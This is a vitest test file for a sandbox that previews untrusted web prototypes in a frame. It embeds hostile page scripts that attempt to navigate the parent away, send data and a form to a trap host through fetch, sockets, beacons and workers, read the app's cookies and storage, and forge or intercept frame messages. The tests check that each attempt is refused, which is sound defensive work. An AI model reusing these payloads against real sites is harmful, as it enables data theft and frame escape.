// What a prototype that means harm can do: nothing outside of its frame, and not for long in it.
import { createServer, type Server } from 'node:http'
import { framePolicy, frameQuery } from '@harness/shared/device/frame-page.ts'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { LONG } from '../setup/long.ts'
import { type Lab, startLab } from '../standins/prototype-lab/start-lab.ts'
import { itIsNotFlooded } from './floods.ts'

const INFO = {
  kind: 'prototype',
  name: 'Prototype',
  pointSize: { width: 400, height: 300 },
  scale: 1,
} as const

/** No input of a person may be kept waiting for longer, in milliseconds. */
const FROZEN_MS = 1_000

let lab: Lab
let trap: Server
let trapped: string[]
let home = ''
beforeAll(async () => {
  lab = await startLab()
  trap = createServer((request, response) => {
    trapped.push(request.url ?? '')
    response.end('caught')
  })
  trap.on('connection', () => trapped.push('connection'))
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve))
  const address = trap.address()
  home = typeof address === 'object' && address ? `http://127.0.0.1:${address.port}` : ''
})
beforeEach(() => {
  trapped = []
})
afterAll(async () => {
  await lab?.close()
  trap?.closeAllConnections()
  trap?.close()
})

async function open(script: string, body = '', hosts: readonly string[] = []): Promise<void> {
  const page = `<!doctype html><title>hostile</title><p id="o"></p>${body}<button style="position:absolute;left:0;top:200px;width:90px;height:40px" onclick="go()">Go</button><script>
const say = (words) => { o.textContent += words + '; ' }
const tried = (name, work) => { try { const value = work(); say(name + ' ' + value) } catch (error) { say(name + ' refused') } }
function go() { ${script} }</script>`
  await lab.open('index.html', new Map([['index.html', Buffer.from(page)]]), INFO, hosts)
  lab.asked.length = 0
  await lab.page.evaluate(() => globalThis.lab.frozenMs())
}

const press = () => lab.perform({ kind: 'tap', point: { x: 40, y: 220 } })
const words = async () => (await lab.observe()).scene.text

async function isWhole(): Promise<void> {
  const { page, origin } = lab
  expect(page.url()).toBe(`${origin}/lab.html`)
  expect(page.context().pages()).toHaveLength(1)
  expect(await page.evaluate(() => document.title)).toBe('Lab')
}

describe('a hostile prototype', () => {
  it('a hostile prototype cannot move the app, its frame or a new window to another address', async () => {
    await open(`
      for (const view of [top, parent, parent.parent]) tried('move', () => { view.location = '${home}/top' })
      tried('opened', () => open('${home}/window', '_blank'))
      const link = document.createElement('a'); link.href = '${home}/link'; link.target = '_top'; document.body.append(link); link.click()
      history.go(-5)`)
    const outcome = await press()
    expect(outcome.detail).toContain('outside of the prototype')
    expect(await words()).toContain('move refused; move refused; move refused; opened null')
    await isWhole()
    expect(trapped).toEqual([])
  })

  it('a hostile prototype that sets its own address is shown again, and nothing was asked for', async () => {
    await open(`location.href = '${home}/own'`)
    expect(await press()).toMatchObject({ success: false, outcome: 'refused' })
    expect((await lab.observe()).scene.title).toBe('hostile')
    await isWhole()
    expect(trapped.filter((what) => what !== 'connection')).toEqual([])
  })

  it('a hostile prototype sends nothing to any host: no request, form, socket, beacon, picture, style or worker', async () => {
    await open(
      `
      fetch('${home}/fetch').catch(() => say('fetch refused'))
      const xhr = new XMLHttpRequest(); xhr.onerror = () => say('xhr refused'); xhr.open('POST', '${home}/xhr'); xhr.send('x')
      new WebSocket('${home.replace('http', 'ws')}/socket').onerror = () => say('socket refused')
      tried('events', () => { new EventSource('${home}/events').onerror = () => say('events refused') })
      tried('beacon', () => navigator.sendBeacon('${home}/beacon', 'x'))
      new Image().src = '${home}/image'
      document.body.style.background = 'url(${home}/style)'
      for (const name of ['script', 'iframe', 'link', 'object', 'video']) {
        const part = document.createElement(name); part.rel = 'stylesheet'
        for (const address of ['src', 'href', 'data']) part.setAttribute(address, '${home}/' + name)
        document.body.append(part)
      }
      const inner = document.createElement('iframe')
      inner.srcdoc = '<script>fetch("${home}/inner"); new Image().src = "${home}/inner"<' + '/script>'
      document.body.append(inner)
      tried('worker', () => new Worker(URL.createObjectURL(new Blob(['fetch("${home}/worker")']))))
      tried('rtc', () => new RTCPeerConnection())
      f.submit()`,
      `<form id="f" action="${home}/form" method="post"><input name="card" value="4111"></form>`,
    )
    await press()
    expect(await words()).toContain('fetch refused')
    await isWhole()
    expect(trapped).toEqual([])
    expect(lab.asked).toEqual([])
  })

  it('a prototype contacts the hosts that a person allowed and no other, and the observation names both', async () => {
    const named = home.replace('127.0.0.1', 'localhost')
    const send = `for (const host of ['${named}', '${home}']) fetch(host + '/fetch', { mode: 'no-cors' }).then(() => say('sent'), () => say('refused'))`
    await open(send, `<img src="${named}/picture.png">`, ['localhost'])
    const before = await lab.observe()
    expect(before.scene.contacts).toEqual([{ host: new URL(named).host, requests: 1 }])
    await press()
    await expect.poll(words).toContain('sent')
    expect(trapped).toContain('/picture.png')
    expect(trapped.filter((what) => what === '/fetch')).toHaveLength(1)
    await isWhole()
    await open(send)
    await press()
    const { scene } = await lab.observe()
    expect(scene.text).toContain('refused; refused')
    expect(scene.contacts).toEqual([
      { host: new URL(named).host, requests: 1, refused: 1 },
      { host: new URL(home).host, requests: 1, refused: 1 },
    ])
  })

  it('a refused request of a prototype counts only as refused, and its picture not as broken', async () => {
    await open('', `<img src="${home}/hero.png" alt="Hero"><img src="gone.png" alt="Gone">`)
    const { scene } = await lab.observe()
    const { requests, refused } = scene.contacts?.find(({ host }) => home.endsWith(host)) ?? {}
    expect(refused).toBe(requests)
    expect(trapped).toEqual([])
    expect(scene.facts?.page?.brokenPictures.map(({ label }) => label)).toEqual(['Gone'])
  })

  it('a prototype says once what its pictures cannot show, also what they could not from the start', async () => {
    await open('say("pressed")', '<video width="40" height="40"></video><iframe></iframe>')
    const first = await press()
    expect(first.detail).toContain('A video of the page may be missing in the pictures.')
    expect(first.detail).toContain(
      'This page embeds another page, which a prototype does not show.',
    )
    expect(first.detail).toContain('run its address in the browser of the bridge')
    const second = await press()
    expect(second.detail).not.toContain('missing in the pictures')
    expect(second.detail).not.toContain('embeds another page')
  })

  it('the page of the frame has the same policy with and without headers, and takes nothing but host names', async () => {
    const policyOf = (query: string) =>
      lab.page.evaluate(async (address) => {
        const frame = document.createElement('iframe')
        frame.src = address
        const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
        document.body.append(frame)
        await loaded
        const policy = frame.contentDocument?.querySelector('meta[http-equiv]')
        const text = policy?.getAttribute('content')
        frame.remove()
        return text
      }, `/prototype-frame.html${query}`)
    const hosts = ['cdn.example.com', '*.example.org']
    expect(await policyOf(frameQuery(hosts))).toBe(framePolicy(hosts))
    for (const query of ['', '?hosts=x;script-src *', '?hosts=ok.example,*'])
      expect(await policyOf(query)).toBe(framePolicy([]))
  })

  it('a hostile prototype reads nothing of the app: no storage, cookie, database, document or message', async () => {
    await lab.page.evaluate(() => localStorage.setItem('secret', 'of the app'))
    await lab.page.context().addCookies([{ name: 'secret', value: '1', url: lab.origin }])
    await open(`
      tried('storage', () => localStorage.getItem('secret'))
      tried('cookie', () => document.cookie)
      tried('database', () => indexedDB.open('harness').constructor.name)
      tried('caches', () => caches.keys().constructor.name)
      for (const view of [top, parent]) { tried('document', () => view.document.title); tried('name', () => view.lab) }
      tried('origin', () => origin)
      navigator.serviceWorker?.getRegistrations?.().then(() => say('workers seen'), () => say('workers refused'))`)
    await press()
    const said = await words()
    expect(said).toContain('storage null; cookie ;')
    expect(said).toContain('database refused')
    expect(said).toContain(
      'document refused; name refused; document refused; name refused; origin null',
    )
    expect(said).not.toContain('workers seen')
  })

  it('a page that a prototype embeds is never shown nor run, and the result says how to test it', async () => {
    const inner = '<!doctype html><p>Inner</p><script>parent.postMessage("ran", "*")</script>'
    const outer = `<iframe src="inner.html"></iframe><iframe srcdoc='${inner}'></iframe>`
    const late = `const late = document.createElement('iframe'); late.src = 'inner.html'; document.body.append(late); const other = document.createElement('iframe'); document.body.append(other); other.srcdoc = ${JSON.stringify(inner).replaceAll('</', '<\\/')}; other.src = 'inner.html'`
    const listening = `<!doctype html><title>still</title><script>addEventListener('message', ({ data }) => { if (data === 'ran') document.title = 'ran' })</script>`
    const page = `${listening}<p>Outer</p>${outer}<button style="position:absolute;left:0;top:200px;width:90px;height:40px" onclick="go()">Go</button><script>function go() { ${late} }</script>`
    const files = new Map([
      ['index.html', Buffer.from(page)],
      ['inner.html', Buffer.from(inner)],
    ])
    await lab.open('index.html', files, INFO)
    const first = await lab.observe()
    expect(first.scene.text).toContain('Outer')
    expect(first.scene.text).not.toContain('Inner')
    const { detail } = await lab.perform({ kind: 'tap', point: { x: 40, y: 220 } })
    expect(detail).toContain('This page embeds another page')
    const { scene } = await lab.observe()
    expect([scene.title, scene.text.includes('Inner')]).toEqual(['still', false])
    expect(scene.facts?.events ?? []).toEqual([])
    await isWhole()
    expect(trapped).toEqual([])
  })

  it('a hostile prototype that runs forever leaves the app free, and the run loses its device', async () => {
    await open('setTimeout(() => { for (;;); }, 50)')
    await press().catch(() => undefined)
    await expect(lab.observe()).rejects.toThrow(
      'closed because it did not answer for 5 seconds. A script of it may never end',
    )
    expect(await lab.page.evaluate(() => globalThis.lab.frozenMs())).toBeLessThan(FROZEN_MS)
    await expect.poll(() => lab.page.evaluate(() => globalThis.lab.frames())).toBe(0)
    await open('say("well")')
    await press()
    expect(await words()).toContain('well')
  })

  itIsNotFlooded({ lab: () => lab, open, press, words, isWhole, frozenMs: FROZEN_MS })

  it('a form of a prototype has its picture also where its fields hide what an element has', async () => {
    const names = ['children', 'attributes', 'childNodes', 'textContent', 'action', 'submit']
    const fields = names.map((name) => `<input name="${name}" hidden>`).join('')
    const sticky = '<p style="position:sticky;top:0">Booking</p>'
    await open('say("pressed")', `<form>${fields}${sticky}</form>`)
    expect((await lab.observe()).png.length).toBeGreaterThan(500)
    expect((await press()).detail).not.toContain('refused')
    expect(await words()).toContain('pressed')
  })

  it('a prototype that writes its storage without end keeps its last value for its next page, and the app free', async () => {
    const page = (script: string) => Buffer.from(`<!doctype html><title>kept</title>${script}`)
    const first = `<button style="position:absolute;left:0;top:200px;width:90px;height:40px" onclick="go()">Go</button><script>
function go() { for (let count = 0; count <= 600; count++) localStorage.setItem('kept', 'v'.repeat(2e6) + count); location.href = '/next.html' }</script>`
    const next = `<p id="o"></p><script>o.textContent = 'kept ' + localStorage.getItem('kept').slice(2e6)</script>`
    const files = { 'index.html': page(first), 'next.html': page(next) }
    await lab.open('index.html', new Map(Object.entries(files)), INFO)
    await lab.page.evaluate(() => globalThis.lab.frozenMs())
    await press()
    expect(await words()).toContain('kept 600')
    expect(await lab.page.evaluate(() => globalThis.lab.frozenMs())).toBeLessThan(FROZEN_MS)
  })

  it('a hostile prototype cannot answer in place of the script of its frame', async () => {
    await open(`
      const answer = { id: 1, value: { state: 'ready' }, key: 'guessed', notice: { kind: 'note', once: 'x', text: 'forged' } }
      for (const view of [top, parent, window]) view.postMessage(answer, '*')
      const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
      Object.defineProperty(MessageEvent.prototype, 'data', { get() { window.stolen = this.currentTarget; return data.get.call(this) } })
      const post = MessagePort.prototype.postMessage
      MessagePort.prototype.postMessage = function (message) { window.stolen = this; return post.call(this, { ...message, value: 'forged' }) }
      setTimeout(() => say(typeof stolen), 100)`)
    const outcome = await press()
    expect(outcome.detail).not.toContain('forged')
    const { scene } = await lab.observe()
    expect(scene.title).toBe('hostile')
    expect(scene.text).toContain('undefined')
  })

  it(
    'a hostile prototype that breaks every native it shares with the script of its frame harms itself alone',
    LONG,
    async () => {
      await open(
        `Array.prototype.map = () => { throw new Error('no') }; Element.prototype.getBoundingClientRect = () => ({}); document.elementFromPoint = null; Promise.prototype.then = null`,
      )
      await press().catch(() => undefined)
      await lab.observe().catch(() => undefined)
      await isWhole()
      await open('say("well")')
      await press()
      expect(await words()).toContain('well')
    },
  )
})
